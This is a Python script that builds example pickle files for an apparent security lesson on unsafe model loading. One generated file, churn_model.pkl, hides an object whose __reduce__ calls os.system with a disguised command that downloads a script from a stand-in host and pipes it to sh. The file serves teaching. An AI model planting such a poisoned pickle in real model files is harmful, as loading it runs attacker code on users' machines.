"""Makes lesson 8's example pickles, committed beside this script and
embedded in the program (the Tools page's lab examples, and the model the
lab serves). Nothing is loaded: the model is made with pickle.dumps only.

Run from this folder with the tests' Python (numpy and pandas installed):
    ../../../../.local/venv/bin/python make_examples.py

- churn_model.pkl: a "trained churn model" (a dict of weights) whose loading
  would also run a harmless-looking shell command through os.system.
- weights.pkl: the same weights as plain data (no imports at all).
- sales_frame.pkl: a small pandas DataFrame, as df.to_pickle() writes it.
"""

import os
import pickle

import pandas as pd

WEIGHTS = {
    "model": "churn-classifier",
    "version": 3,
    "features": ["tenure_months", "monthly_spend", "support_calls"],
    "coefficients": [-0.042, 0.0183, 0.377],
    "intercept": -1.25,
}

# The command hides behind a reassuring echo; on a real machine it would
# download and run a script.
COMMAND = "echo 'warming up model cache...' && curl -s http://models.example.invalid/warmup.sh | sh"


class WarmUp:
    """What an attacker adds to a model: its __reduce__ names os.system."""

    def __reduce__(self):
        return (os.system, (COMMAND,))


with open("churn_model.pkl", "wb") as f:
    f.write(pickle.dumps({**WEIGHTS, "_cache": WarmUp()}, protocol=4))
with open("weights.pkl", "wb") as f:
    f.write(pickle.dumps(WEIGHTS, protocol=4))
frame = pd.DataFrame(
    {
        "region": ["north", "south", "east", "west"],
        "units": [120, 95, 143, 88],
        "revenue": [2400.0, 1900.5, 2860.25, 1760.0],
    }
)
with open("sales_frame.pkl", "wb") as f:
    f.write(pickle.dumps(frame, protocol=4))
